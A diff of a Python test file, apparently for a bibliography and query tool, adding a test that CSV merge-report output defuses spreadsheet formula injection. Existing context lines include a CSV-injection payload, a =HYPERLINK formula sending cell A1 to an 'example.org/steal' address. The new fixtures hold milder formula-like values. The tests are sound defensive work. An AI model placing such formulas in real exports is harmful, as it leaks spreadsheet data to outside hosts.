@@ -24,7 +24,7 @@ The cases (issue 15, items 15, 16, 17 and 22):
   ``query --format json`` stays the question's rows.
 - **CSV** (15). A cell of text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
   return is written with a single quote in front, from ``query`` and ``sparql`` alike; numbers
-  (``-3``) and other text are written as they are.
+  (``-3``) and other text are written as they are; the merge report's CSV likewise.
 """
 
 from __future__ import annotations
@@ -514,3 +514,27 @@ def test_csv_from_a_question_defuses_formulas(
     assert row["text"] == '\'=HYPERLINK("https://example.org/steal?"&A1, "click")'
     table = ok_text(cli("query", "search-quotes", str(source), "-p", "text=hyperlink"))
     assert "'=HYPERLINK" not in table  # only CSV is for spreadsheets
+
+
+def test_csv_of_the_merge_report_defuses_formulas(cli: Cli, write_study: WriteStudy) -> None:
+    bibtex = write_study(
+        '@article{x2020,\n  title = {=HYPERLINK("https://example.org") and more},\n'
+        "  doi = {10.1234/abc},\n  journal = {@Journal of Tests},\n  year = {2020},\n}\n",
+        "a.bib",
+    )
+    ris = write_study(
+        'TY  - JOUR\nTI  - =HYPERLINK("https://example.org")\nT2  - @J Tests\n'
+        "DO  - 10.1234/abc\nPY  - 2020\nER  - \n",
+        "b.ris",
+    )
+    out = ok_text(cli("merge-report", str(bibtex), str(ris), "-f", "csv"))
+    rows = {row["field"]: row for row in csv.DictReader(io.StringIO(out))}
+    assert (rows["title"]["kept"], rows["title"]["dropped"]) == (
+        '\'=HYPERLINK("https://example.org") and more',
+        '\'=HYPERLINK("https://example.org")',
+    )
+    assert (rows["container_title"]["kept"], rows["container_title"]["dropped"]) == (
+        "'@Journal of Tests",
+        "'@J Tests",
+    )
+    assert rows["title"]["kept_line"] == "2"  # a number, as it is
